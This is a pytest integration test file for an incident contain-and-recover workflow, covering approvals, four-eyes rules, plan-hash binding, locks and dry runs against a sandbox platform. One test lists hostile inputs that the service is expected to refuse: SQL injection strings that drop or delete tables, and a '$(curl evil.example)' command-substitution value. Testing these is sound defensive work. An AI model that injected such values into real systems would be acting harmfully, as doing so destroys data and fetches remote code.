"""contain and recover against the sandbox, through the worker, approvals answered via the resume API."""

from __future__ import annotations

import httpx
import pytest

from remediation.flowkit.change_log import incident_changes
from remediation.flowkit.resume import wait_for_pause
from remediation.target.inventory import load_target
from sandbox.stack.info import StackInfo
from tests.integration.flow_runs import (
    LEAD,
    ONCALL,
    SRE,
    answer,
    answer_until_done,
    approval_records,
    confirm_initiator,
    finish,
    incident,
    result,
    start,
)

pytestmark = pytest.mark.integration
CONTAIN, RECOVER = "contain/contain", "recover/recover"


def _admin(stack: StackInfo) -> httpx.Client:
    token = stack.admin_tokens["super_admin"].get_secret_value()
    return httpx.Client(base_url=stack.admin_url, headers={"Authorization": f"Bearer {token}"}, timeout=5)


def _levers(stack: StackInfo) -> dict[str, object]:
    token = stack.admin_tokens["super_admin"].get_secret_value()
    with _admin(stack) as admin:
        return {
            "freeze": admin.get("/api/v1/maintenance").json()["is_active"],
            "deposit_halt": admin.get("/api/v1/global-vars/DEPOSIT_MAINTENANCE_STATUS").json()["value"],
            "brands": {b: admin.get(f"/api/v1/brands/{b}/config/payment_policy").json()["value"]
                       for b in ("alpha", "beta", "gamma")},
            "ingress": httpx.get(f"{stack.gateway_url}/api/v1/ingress/provider",
                                 headers={"Authorization": f"Bearer {token}"}, timeout=5).json()["blocked"],
        }


def _deposit(stack: StackInfo, player: str, ref: str) -> dict[str, object]:
    body = {"player_id": player, "amount": 1, "ref": ref}
    return httpx.post(f"{stack.gateway_url}/api/v1/wallet/deposit", json=body, timeout=10).json()


def _contain(inc: str, approve: bool = True, **params: object) -> dict[str, object]:
    run_id = start(CONTAIN, incident_id=inc, initiated_by=ONCALL, dry_run=False, **params)
    run = answer_until_done(run_id, decision="approve" if approve else "reject")
    assert run.state is not None
    return {"state": run.state, "run_id": run_id, **result(run)}


def read_changes(inc: str) -> list[object]:
    """The incident's change log outcomes, as recover reads them (the target's database)."""
    return [e.outcome for e in incident_changes(load_target("sandbox"), inc) if e.outcome is not None]


def test_each_lever_applied_then_recovered_in_reverse(stack: StackInfo, deployments: list[str],
                                                       reset_platform: StackInfo) -> None:
    inc = incident()
    calm = _levers(stack)
    applied = []
    for params in (
        {"lever": "brand-disable", "brand_id": "beta", "brand_flags": ["deposit_enabled", "withdraw_enabled"]},
        {"lever": "platform-freeze"},
        {"lever": "deposit-halt"},
        {"lever": "provider-ingress-block", "message": "provider flood INC"},
    ):
        out = _contain(inc, **params)
        assert out["state"].is_completed(), out["state"].message
        assert out["outcome"] == "applied" and out["path"] in ("admin-api", "gateway")
        assert out["verification"]["ok"], out["verification"]
        applied.append(out)
    # Brand lever: only beta is blocked, with the seed's answer; alpha and gamma stay live.
    brand_checks = applied[0]["verification"]["checks"]
    blocked = {(c["brand"], c["kind"]) for c in brand_checks if c["blocked"]}
    assert blocked == {("beta", "deposit"), ("beta", "withdraw")}
    assert {c["msg"] for c in brand_checks if c["blocked"]} == {"Finance maintenance"}
    # Freeze: every deposit gets the seed's exact answer.
    freeze_checks = applied[1]["verification"]["checks"]
    assert {c["msg"] for c in freeze_checks if c.get("kind") == "deposit"} == {"Finance maintenance"}
    assert {"kind": "GET /api/v1/maintenance", "is_active": True} in freeze_checks
    # Ingress block: a provider bet is refused at the gateway.
    assert applied[3]["verification"]["checks"][0]["msg"] == "Provider ingress blocked"

    now = _levers(stack)
    assert now["freeze"] is True and now["deposit_halt"] == "1" and now["ingress"] is True
    assert now["brands"]["beta"] == {"deposit_enabled": False, "withdraw_enabled": False}
    assert now["brands"]["alpha"] == calm["brands"]["alpha"]

    run_id = start(RECOVER, incident_id=inc, initiated_by=ONCALL, dry_run=False)
    answer(run_id, decision="approve", approver=SRE, reason="root cause fixed")
    run = finish(run_id, timeout_s=240)
    out = result(run)
    assert run.state is not None and run.state.is_completed(), (run.state and run.state.message, out)
    assert [u["change"]["lever"] for u in out["undone"]] == [
        "provider-ingress-block", "deposit-halt", "platform-freeze", "brand-disable"]
    assert out["round_trip"]["ok"] and out["books"]["ok"]
    assert "all-clear" in (run.state.message or "")
    assert _levers(stack) == calm
    log = read_changes(inc)
    assert [c.outcome for c in log].count("applied") == 4 and [c.outcome for c in log].count("reverted") == 4
    # Recover again: nothing left to undo, still all-clear.
    again = start(RECOVER, incident_id=inc, initiated_by=ONCALL, dry_run=False)
    rerun = answer_until_done(again)
    assert rerun.state is not None and rerun.state.is_completed() and result(rerun)["undone"] == []


def test_rejected_or_timed_out_changes_nothing(stack: StackInfo, deployments: list[str],
                                               reset_platform: StackInfo) -> None:
    calm = _levers(stack)
    out = _contain(incident(), approve=False, lever="platform-freeze")
    assert out["outcome"] == "reject" and "nothing changed" in out["state"].message
    # The decision is on record for the auditor: who, what, why, which plan, when.
    [record] = approval_records(out["run_id"])
    assert (record["decision"], record["approver"], record["reason"]) == ("reject", LEAD, "pytest drill")
    assert record["requested_by"] == ONCALL and len(record["plan_hash"]) == 64 and record["decided_at"]
    assert f"{LEAD} (ssh-signature" in record["signoffs"]
    timed_out = start(CONTAIN, incident_id=incident(), lever="provider-ingress-block", initiated_by=ONCALL,
                      dry_run=False, approval_timeout_s=5)
    confirm_initiator(timed_out)
    run = finish(timed_out)
    assert run.state is not None and run.state.is_completed()
    assert result(run)["outcome"] == "timeout" and "timeout" in (run.state.message or "")
    assert _levers(stack) == calm


def test_an_approval_binds_to_its_plan(stack: StackInfo, deployments: list[str],
                                       reset_platform: StackInfo) -> None:
    inc = incident()
    run_id = start(CONTAIN, incident_id=inc, lever="brand-disable", brand_id="gamma",
                   brand_flags=["deposit_enabled", "withdraw_enabled"], initiated_by=ONCALL, dry_run=False)
    confirm_initiator(run_id)
    first = wait_for_pause(run_id)
    from remediation.flowkit.resume import pending_form

    plan_a = pending_form(first)["plan_hash"]
    # An answer for another plan is refused by the server's schema check: the run stays paused.
    with pytest.raises(Exception):  # noqa: B017 - the client raises its HTTP error type
        from prefect.flow_runs import resume_flow_run

        resume_flow_run(run_id, run_input={"decision": "approve", "approver": LEAD, "reason": "x" * 5,
                                           "plan_hash": "0" * 64, "confirm_target": "sandbox"})
    # Someone flips gamma's withdraw flag by hand before the approval: plan A no longer holds.
    with _admin(stack) as admin:
        admin.patch("/api/v1/brands/gamma/config/payment_policy", json={"value": {"withdraw_enabled": False}})
    answer(run_id, decision="approve", approver=LEAD, reason="approving plan A", plan_hash=plan_a)
    second = wait_for_pause(run_id)
    plan_b = pending_form(second)["plan_hash"]
    assert plan_b != plan_a, "the approval for plan A was used for plan B"
    assert _levers(stack)["brands"]["gamma"]["deposit_enabled"] is True, "applied before plan B was approved"
    answer(run_id, decision="approve", approver=LEAD, reason="approving plan B")
    run = finish(run_id)
    out = result(run)
    assert run.state is not None and run.state.is_completed(), run.state
    assert out["change"]["before"] == {"deposit_enabled": True, "withdraw_enabled": False}
    assert out["approval"]["plan_hash"] == plan_b


def test_four_eyes_refuses_the_requester(stack: StackInfo, deployments: list[str],
                                         reset_platform: StackInfo) -> None:
    run_id = start(CONTAIN, incident_id=incident(), lever="platform-freeze", initiated_by=ONCALL, dry_run=False)
    answer(run_id, decision="approve", approver=ONCALL, reason="self-approval")
    # Refused and asked again: still paused, nothing changed.
    wait_for_pause(run_id)
    assert _levers(stack)["freeze"] is False
    answer(run_id, decision="reject", approver=LEAD, reason="not needed")
    run = finish(run_id)
    assert run.state is not None and result(run)["outcome"] == "reject"


def test_two_runs_on_one_lever_never_interleave(stack: StackInfo, deployments: list[str],
                                                reset_platform: StackInfo) -> None:
    first = start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by=ONCALL, dry_run=False)
    confirm_initiator(first)
    wait_for_pause(first)  # holds the lock while it waits for its approval
    second_id = start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by=ONCALL,
                      dry_run=False, lock_wait_s=3)
    confirm_initiator(second_id)
    second = finish(second_id)
    assert second.state is not None and second.state.is_failed()
    assert "another run is acting on sandbox" in (second.state.message or "")
    answer(first, decision="reject", approver=LEAD, reason="drill over")
    done = finish(first)
    assert done.state is not None and done.state.is_completed()
    assert _levers(stack)["deposit_halt"] == "0"


def test_bad_input_is_refused_before_anything(stack: StackInfo, deployments: list[str],
                                              reset_platform: StackInfo) -> None:
    from prefect.exceptions import PrefectHTTPStatusError

    calm = _levers(stack)
    for bad in (
        {"lever": "drain-wallet"},
        {"lever": "brand-disable", "brand_id": "beta'; DROP TABLE ledger; --"},
        {"lever": "platform-freeze", "message": "x'); DELETE FROM maintenance; --"},
        {"lever": "platform-freeze", "message": "$(curl evil.example)"},
    ):
        with pytest.raises(PrefectHTTPStatusError, match="409"):
            start(CONTAIN, incident_id=incident(), initiated_by=ONCALL, dry_run=False, **bad)
    for bad_run in ({"lever": "brand-disable", "brand_id": "nosuchbrand"},
                    {"lever": "deposit-halt", "brand_id": "beta"}):
        run = finish(start(CONTAIN, incident_id=incident(), initiated_by=ONCALL, dry_run=False, **bad_run))
        assert run.state is not None and run.state.is_failed()
        assert "BadInputError" in (run.state.message or "") or "brand" in (run.state.message or "")
    assert _levers(stack) == calm


def test_dry_run_reports_exactly_what_the_real_run_changes(stack: StackInfo, deployments: list[str],
                                                           reset_platform: StackInfo) -> None:
    inc = incident()
    params = {"lever": "brand-disable", "brand_id": "alpha", "brand_flags": ["withdraw_enabled"]}
    dry = finish(start(CONTAIN, incident_id=inc, initiated_by=ONCALL, **params))  # dry_run defaults on
    would = result(dry)["would_change"]
    assert _levers(stack)["brands"]["alpha"]["withdraw_enabled"] is True, "the dry run changed something"
    real = _contain(inc, **params)
    assert would == [real["change"]]
    assert [c.change.model_dump(mode="json") for c in read_changes(inc)] == would
